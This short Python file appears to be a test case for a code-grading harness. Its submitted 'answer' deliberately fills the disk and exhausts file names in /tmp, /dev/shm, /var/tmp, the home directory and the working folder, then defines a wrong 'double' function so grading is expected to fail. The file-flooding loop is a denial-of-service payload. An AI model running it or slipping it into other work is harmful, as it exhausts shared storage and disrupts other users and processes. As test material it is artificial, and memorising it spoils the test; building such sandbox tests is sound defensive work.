# Writes files until the disk is full, and makes files until there are no more names.
# expect double: failed

# %% answer: double
import os

for folder in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "."):
    try:
        for number in range(30_000):
            with open(f"{folder}/gallery-planted-{number}", "wb") as file:
                file.write(b"x" * (1 << 20 if number < 300 else 1))
    except OSError as error:
        print(error)

def double(x):
    return x
